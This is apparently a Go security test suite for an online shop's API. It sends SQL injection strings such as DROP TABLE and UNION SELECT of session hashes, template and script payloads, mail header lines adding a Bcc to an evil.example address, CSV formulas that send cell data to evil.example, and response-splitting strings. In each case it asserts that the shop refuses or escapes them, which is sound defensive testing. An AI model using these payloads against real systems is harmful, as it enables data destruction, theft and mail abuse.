package app

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/http"
	"net/mail"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// injections are texts that mean something where they end up.
func injections() []attack {
	return []attack{
		{"SQL injection", "Statements, quotes, comments and NUL in searches, filters, sort orders, cursors, ids, slugs, codes and bodies",
			"They are text: nothing is found by them, or they are refused; every statement is constant and takes parameters", sqlInjection},
		{"Template injection", "`{{…}}`, `${…}`, `<%…%>` in names, texts and addresses; mail templates that call methods, read other fields or never end",
			"Shown as they were typed, nowhere executed; a template may use what it is given, and is refused otherwise", templateInjection},
		{"Script in text fields", "A script, an event handler and a `javascript:` link in every text of products, categories, collections, brands, attributes, promotions, shops, addresses and notes",
			"Escaped, or sanitized away in descriptions, on all pages, in mails and on paper; and every page's policy lets nothing run", scripts},
		{"Header injection in mail", "Line ends in e-mail addresses, names, subjects and the shop's own address, with `Bcc:` after them",
			"422, or one line is made of them; no mail has a header that the shop did not write", mailHeaders},
		{"CSV formulas", "Titles, tags, options and SKUs that begin with `= + - @`, tab or carriage return",
			"No cell of an export begins so: it gets an apostrophe, which an import takes away again", csvFormulas},
		{"Response splitting", "Line ends in paths, queries, file names and what is sent back in headers",
			"Refused or encoded; no answer has a header that the shop did not write", responseSplitting},
	}
}

var sqlTexts = []string{
	`' OR '1'='1`, `'; DROP TABLE product; --`, `" OR ""="`, `1); DELETE FROM sales_order; --`, `' UNION SELECT id, secret_hash FROM session --`,
	`%' AND 1=1 --`, `\'; SELECT pg_sleep(5); --`, "a\x00b", `$1`, `?1`, `/* */`, `0x27`,
}

func sqlInjection(t *testing.T, v *victim) {
	var all struct{ Total int }
	v.expect(t, http.StatusOK, http.MethodGet, "/api/admin/products", v.key, "", &all)
	for _, text := range sqlTexts {
		in := url.QueryEscape(text)
		for _, path := range []string{
			"/api/products?q=" + in, "/api/products?sort=" + in, "/api/products?cursor=" + in, "/api/products?category=" + in,
			"/api/products?attr.color=" + in, "/api/products?brand=" + in, "/api/products?limit=" + in, "/search?q=" + in,
			"/api/products/" + url.PathEscape(text), "/products/" + url.PathEscape(text), "/api/carts/" + url.PathEscape(text),
			"/api/orders/" + url.PathEscape(text) + "?token=" + in, "/api/categories/" + url.PathEscape(text),
		} {
			a := v.hit(t, http.MethodGet, path, "")
			var list struct{ Total int }
			if a.status == http.StatusOK && strings.HasPrefix(path, "/api/products?") && json.Unmarshal(a.body, &list) == nil && list.Total >= all.Total && all.Total > 0 {
				t.Errorf("%s finds everything: %.300s", path, a.body)
			}
		}
		for _, path := range []string{"/api/admin/orders?q=", "/api/admin/products?q=", "/api/admin/orders?status=", "/api/admin/jobs?kind=", "/api/admin/mails?to="} {
			v.staff(t, http.MethodGet, path+in, "")
		}
		body, err := json.Marshal(map[string]any{"code": text})
		if err != nil {
			t.Fatal(err)
		}
		refused(t, "coupon "+text, v.hit(t, http.MethodPost, "/api/carts/"+v.alice.cart+"/coupons", string(body), "Cart-Token", v.alice.token), 404, 422)
	}
	var after struct{ Total int }
	v.expect(t, http.StatusOK, http.MethodGet, "/api/admin/products", v.key, "", &after)
	if after != all || all.Total == 0 {
		t.Errorf("%d products were %d before", after.Total, all.Total)
	}
}

var templateTexts = []string{`{{.}}`, `{{printf "%v" .}}`, `{{7|printf "%d%d" 6}}`, `${7*7}`, `<%= 7*7 %>`, `#{7*7}`, `{{template "layout"}}`}

func templateInjection(t *testing.T, v *victim) {
	for _, text := range templateTexts {
		p := v.makeProduct(t, map[string]any{"title": "T " + text})
		page := v.hit(t, http.MethodGet, "/products/"+p, "")
		if !bytes.Contains(page.body, []byte("T "+escapedHTML(text))) {
			t.Errorf("the page does not show %q as it was typed", text)
		}
		if bytes.Contains(page.body, []byte("T 49")) || bytes.Contains(page.body, []byte("T 67")) {
			t.Errorf("%q was executed", text)
		}
	}
	for _, c := range []string{
		`{{.Order.Customer.Password}}`, `{{call .Order}}`, `{{index . "x"}}`, `{{template "nothing"}}`, `{{range`, `{{range 100000000000}}{{end}}`, `{{range $i := 9999999999}}{{$i}}{{end}}`, `{{define "order_placed"}}{{end}}{{template "order_placed"}}`,
		`{{.Shop.Secret}}`, `{{js .}}{{.X.Y.Z}}`, `{{printf "%1000000000d" 1}}`,
	} {
		body, err := json.Marshal(map[string]string{"subject": "s", "html": c, "text": "t"})
		if err != nil {
			t.Fatal(err)
		}
		a := v.staff(t, http.MethodPost, "/api/admin/mail/templates/order_placed/en/preview", string(body))
		if a.status == http.StatusOK && len(a.body) > 1<<20 {
			t.Errorf("%s makes %d bytes", c, len(a.body))
		}
		if a.status != http.StatusOK {
			refused(t, c, a, 422)
		}
	}
}

// escapedHTML is a text as html/template writes it between elements.
func escapedHTML(text string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&#34;", "'", "&#39;").Replace(text)
}

// makeProduct makes a published product, and gives its slug.
func (v *victim) makeProduct(t *testing.T, change map[string]any) string {
	t.Helper()
	product := map[string]any{"title": "Cup", "status": "published", "variants": []any{map[string]any{
		"inventory_tracked": true, "on_hand": 100, "prices": []any{map[string]any{"price": map[string]any{"amount": 700, "currency_code": "USD"}}},
	}}}
	maps.Copy(product, change)
	var made struct{ Slug string }
	v.expect(t, http.StatusCreated, http.MethodPost, "/api/admin/products", v.key, asJSON(t, product), &made)
	v.tries++
	return made.Slug
}

func asJSON(t *testing.T, value any) string {
	t.Helper()
	text, err := json.Marshal(value)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// payloads are what would run if it were not escaped: between elements, in an attribute, in JSON inside a page, in a link.
var payloads = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</script><script>alert(1)</script>`, `' onmouseover='alert(1)`,
	`<svg/onload=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `]]><script>alert(1)</script>`, "\u2028<script>alert(1)</script>",
	`<math><mtext><script>alert(1)</script>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<iframe srcdoc="<script>alert(1)</script>">`,
}

func scripts(t *testing.T, v *victim) {
	for i, text := range payloads {
		v.scriptsEverywhere(t, i, text)
	}
	within(t, patience, "the mails are sent", func() bool { return len(v.mails(t)) >= len(payloads) })
	for _, sent := range v.mails(t) {
		v.tries++
		for _, part := range mailHTML(t, sent) {
			if found := hostile(part); found != "" {
				t.Errorf("a mail has %s: %.600s", found, part)
			}
		}
	}
}

// scriptsEverywhere puts a text wherever one can stand, and looks at every page that shows it.
func (v *victim) scriptsEverywhere(t *testing.T, i int, text string) {
	t.Helper()
	name := strings.TrimSpace(fmt.Sprintf("N%d %s", i, text))
	flat := strings.ReplaceAll(name, "\u2028", "") // names are one line
	made := func(path string, body map[string]any) (m struct{ ID, Slug string }) {
		a := v.staff(t, http.MethodPost, "/api/admin"+path, asJSON(t, body))
		if a.status != http.StatusCreated && a.status != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d %s", path, a.status, a.body)
		}
		_ = json.Unmarshal(a.body, &m)
		return m
	}
	category := made("/categories", map[string]any{"name": flat, "description": text, "seo": map[string]any{"title": flat, "description": flat}})
	collection := made("/collections", map[string]any{"title": flat, "description": text})
	brand := made("/brands", map[string]any{"name": flat})
	made("/attributes", map[string]any{"code": fmt.Sprintf("code%d", i), "type": "text", "name": flat})
	made("/promotions", map[string]any{"name": flat, "code": fmt.Sprintf("CODE%d", i), "kind": "free_shipping"})
	product := v.makeProduct(t, map[string]any{
		"title": flat, "subtitle": flat, "description": "<p>good</p>" + text, "tags": []string{flat}, "categories": []string{category.ID},
		"brand": flat, "seo": map[string]any{"title": flat, "description": flat},
		"options": []any{map[string]any{"name": flat, "values": []string{flat}}}, "metadata": map[string]string{"note": text},
		"variants": []any{map[string]any{"options": []string{flat}, "sku": fmt.Sprintf("SKU%d", i), "inventory_tracked": true, "on_hand": 100,
			"prices": []any{map[string]any{"price": map[string]any{"amount": 700, "currency_code": "USD"}}}}},
	})
	v.staff(t, http.MethodPost, "/api/admin/collections/"+collection.ID+"/products", asJSON(t, map[string]any{"products": []string{product}}))
	v.staff(t, http.MethodPatch, "/api/admin/settings/channel", asJSON(t, map[string]any{"name": flat}))
	order, proof := v.scriptedOrder(t, i, product, flat)
	for _, path := range []string{
		"/", "/products/" + product, "/categories", "/categories/" + category.Slug, "/collections/" + collection.Slug, "/brands/" + brand.Slug,
		"/search?q=" + url.QueryEscape(text), "/nothing/" + url.PathEscape(text), "/orders/" + order + "?token=" + proof, "/sitemap.xml", "/dev/mailbox",
		"/api/docs", "/products/" + product + "?variant=" + url.QueryEscape(text), "/categories/" + category.Slug + "?attr.x=" + url.QueryEscape(text),
	} {
		a := v.hit(t, http.MethodGet, path, "")
		if strings.Contains(a.header.Get("Content-Type"), "html") {
			if found := hostile(a.body); found != "" {
				t.Errorf("%s has %s", path, found)
			}
		}
	}
	for _, path := range []string{"/invoice", "/packing-slip"} {
		if a := v.staff(t, http.MethodGet, "/api/admin/orders/"+order+path, ""); order != "" && (a.status != http.StatusOK || hostile(a.body) != "") {
			t.Errorf("%s: %d has %s", path, a.status, hostile(a.body))
		}
	}
	for _, path := range []string{"/api/products", "/api/products/" + product, "/api/categories"} {
		if a := v.hit(t, http.MethodGet, path, ""); a.header.Get("Content-Type") != "application/json" {
			t.Errorf("%s is %s", path, a.header.Get("Content-Type"))
		}
	}
}

// scriptedOrder orders something with the text wherever a shopper can write one.
func (v *victim) scriptedOrder(t *testing.T, i int, product, text string) (order, proof string) {
	t.Helper()
	var p struct{ Variants []struct{ ID string } }
	v.expect(t, http.StatusOK, http.MethodGet, "/api/products/"+product, "", "", &p)
	// No field of an address is longer than the payloads are, so all of them take the text whole.
	address := map[string]any{
		"first_name": text, "last_name": text, "company": text, "address_1": text, "address_2": text, "city": text, "province_code": "IL",
		"postal_code": "62701", "country_code": "US", "phone": "+1 555 0100",
	}
	var o struct{ ID, Token string }
	a := v.hit(t, http.MethodPost, "/api/orders", asJSON(t, map[string]any{
		"items": []any{map[string]any{"variant_id": p.Variants[0].ID, "quantity": 1}}, "email": "ada@example.com", "note": text,
		"shipping_address": address, "payment": map[string]any{"provider": "test"},
	}), "Idempotency-Key", fmt.Sprint("scripts ", i))
	if err := json.Unmarshal(a.body, &o); err != nil || a.status != http.StatusCreated {
		t.Errorf("order with %q: %d %s", text, a.status, a.body)
	}
	v.staff(t, http.MethodPost, "/api/admin/orders/"+o.ID+"/notes", asJSON(t, map[string]any{"note": text}))
	return o.ID, o.Token
}

// mailHTML is the parts of a mail that are HTML, without their encoding.
func mailHTML(t *testing.T, sent []byte) [][]byte {
	t.Helper()
	m, err := mail.ReadMessage(bytes.NewReader(sent))
	if err != nil {
		t.Errorf("a mail cannot be read: %v in %.300s", err, sent)
		return nil
	}
	_, params, err := mime.ParseMediaType(m.Header.Get("Content-Type"))
	if err != nil {
		t.Error(err)
		return nil
	}
	var list [][]byte
	parts := multipart.NewReader(m.Body, params["boundary"])
	for {
		part, err := parts.NextRawPart()
		if err != nil {
			return list
		}
		if strings.HasPrefix(part.Header.Get("Content-Type"), "text/html") {
			text, err := io.ReadAll(quotedprintable.NewReader(part))
			if err != nil {
				t.Error(err)
			}
			list = append(list, text)
		}
	}
}

func mailHeaders(t *testing.T, v *victim) {
	const more = "\r\nBcc: eve@evil.example\r\nX-Evil: yes"
	for _, end := range []string{more, "\n" + more[2:], "\r" + more[2:], "\u2028Bcc: eve@evil.example", "%0d%0aBcc: eve@evil.example"} {
		for what, body := range map[string]string{
			"e-mail": strings.Replace(v.orderBody(""), `"ada@example.com"`, asJSON(t, "ada@example.com"+end), 1),
			"name":   strings.Replace(v.orderBody(""), `"first_name": "Ada"`, `"first_name": `+asJSON(t, "Ada"+end), 1),
		} {
			a := v.hit(t, http.MethodPost, "/api/orders", body, "Idempotency-Key", "mail "+what+asJSON(t, end))
			if what == "e-mail" {
				refused(t, what+end, a, 422)
			}
			if strings.Contains(string(a.body), `\nBcc`) || strings.Contains(string(a.body), `\rBcc`) {
				t.Errorf("the %s has two lines: %s", what, a.body)
			}
		}
		words := map[string]string{"subject": "Thanks" + end, "html": "<p>Thanks</p>", "text": "Thanks"}
		v.staff(t, http.MethodPut, "/api/admin/mail/templates/order_placed/en", asJSON(t, words))
		refused(t, "order", v.hit(t, http.MethodPost, "/api/orders", v.orderBody(""), "Idempotency-Key", "subject"+end), 201)
		within(t, patience, "the mail is sent", func() bool {
			return slices.ContainsFunc(v.mails(t), func(m []byte) bool { return bytes.Contains(m, []byte("Subject: Thanks")) })
		})
		v.staff(t, http.MethodDelete, "/api/admin/mail/templates/order_placed/en", "")
		if a := v.staff(t, http.MethodPatch, "/api/admin/mail/settings", asJSON(t, map[string]string{"from_name": "Shop" + end})); !strings.HasPrefix(end, "%") {
			refused(t, "sender"+end, a, 422)
		}
		v.staff(t, http.MethodPatch, "/api/admin/mail/settings", `{"from_name": ""}`)
	}
	known := map[string]bool{}
	for _, name := range []string{"Date", "From", "To", "Reply-To", "Subject", "Message-Id", "Mime-Version", "Auto-Submitted", "X-Auto-Response-Suppress", "Content-Type", "Content-Transfer-Encoding", "List-Unsubscribe"} {
		known[name] = true
	}
	for _, sent := range v.mails(t) {
		v.tries++
		m, err := mail.ReadMessage(bytes.NewReader(sent))
		if err != nil {
			t.Errorf("a mail cannot be read: %v", err)
			continue
		}
		for name, values := range m.Header {
			if !known[name] || len(values) != 1 {
				t.Errorf("a mail has %s: %q", name, values)
			}
		}
		if strings.Contains(m.Header.Get("To"), "evil") {
			t.Errorf("a mail goes to %s", m.Header.Get("To"))
		}
	}
}

func csvFormulas(t *testing.T, v *victim) {
	for i, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "'=", " ="} {
		text := begin + `HYPERLINK("https://evil.example/?"&A1,"click")`
		change := map[string]any{"title": text, "subtitle": text, "tags": []string{text}, "metadata": map[string]string{text: text},
			"variants": []any{map[string]any{"sku": fmt.Sprintf("%sSKU%d", strings.TrimSpace(begin), i), "inventory_tracked": true, "on_hand": 1}}}
		if a := v.staff(t, http.MethodPost, "/api/admin/products", asJSON(t, change)); a.status != http.StatusCreated && a.status != http.StatusUnprocessableEntity {
			t.Errorf("%q: %d %s", text, a.status, a.body)
		}
	}
	out := v.staff(t, http.MethodGet, "/api/admin/exports/products?format=csv", "")
	cells, formulas := 0, 0
	for r := csv.NewReader(bytes.NewReader(out.body)); ; {
		row, err := r.Read()
		if err == io.EOF {
			break
		} else if err != nil {
			t.Fatal(err)
		}
		for _, cell := range row {
			cells++
			if cell != "" && strings.Contains("=+-@\t\r", cell[:1]) {
				t.Errorf("the cell %q is a formula", cell)
			}
			if strings.Contains(cell, "HYPERLINK") {
				formulas++
			}
		}
	}
	if cells < 100 || formulas < 10 {
		t.Errorf("the export has %d cells, %d of them tried: %.300s", cells, formulas, out.body)
	}
}

func responseSplitting(t *testing.T, v *victim) {
	const split = "%0d%0aX-Evil:%20yes%0d%0a%0d%0a<script>alert(1)</script>"
	for _, path := range []string{
		"/" + split, "/products/" + split, "/search?q=" + split, "/api/products/" + split, "/api/products?q=" + split, "/media/" + split + "/original.jpg",
		"/orders/" + split + "/?token=" + split, "/products/" + split + "/", "/api/admin/exports/products?format=" + split, "/dev/pay?payment=" + split,
	} {
		for _, headers := range [][]string{nil, {"X-Request-Id", "a%0d%0aX-Evil: yes"}, {"Idempotency-Key", "a b"}} {
			a := v.hit(t, http.MethodGet, path, "", headers...)
			if a.header.Get("X-Evil") != "" || strings.ContainsAny(a.header.Get("Location"), "\r\n") {
				t.Errorf("%s: %v", path, a.header)
			}
			if strings.Contains(a.header.Get("Content-Type"), "html") && hostile(a.body) != "" {
				t.Errorf("%s has %s", path, hostile(a.body))
			}
		}
	}
}
